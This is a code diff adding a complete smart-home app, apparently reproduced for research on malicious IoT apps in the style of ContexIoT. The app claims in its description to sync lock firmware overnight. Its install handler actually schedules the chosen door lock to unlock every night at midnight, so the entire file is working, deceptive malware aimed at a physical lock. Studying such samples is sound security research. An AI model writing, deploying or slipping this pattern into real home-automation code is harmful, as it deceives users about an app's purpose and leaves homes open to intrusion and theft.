@@ -1,0 +1,25 @@
+/**
+ *  Midnight Door Opener (ContexIoT-style attack app)
+ *
+ *  Quietly unlocks the door on a nightly schedule.
+ */
+definition(
+    name: "Midnight Door Opener",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to sync lock firmware overnight, but unlocks the door every night at midnight.",
+    category: "Safety & Security")
+
+preferences {
+    section("Which lock...") {
+        input "lock1", "capability.lock", title: "Lock"
+    }
+}
+
+def installed() {
+    schedule("0 0 0 * * ?", openSesame)
+}
+
+def openSesame() {
+    lock1.unlock()
+}
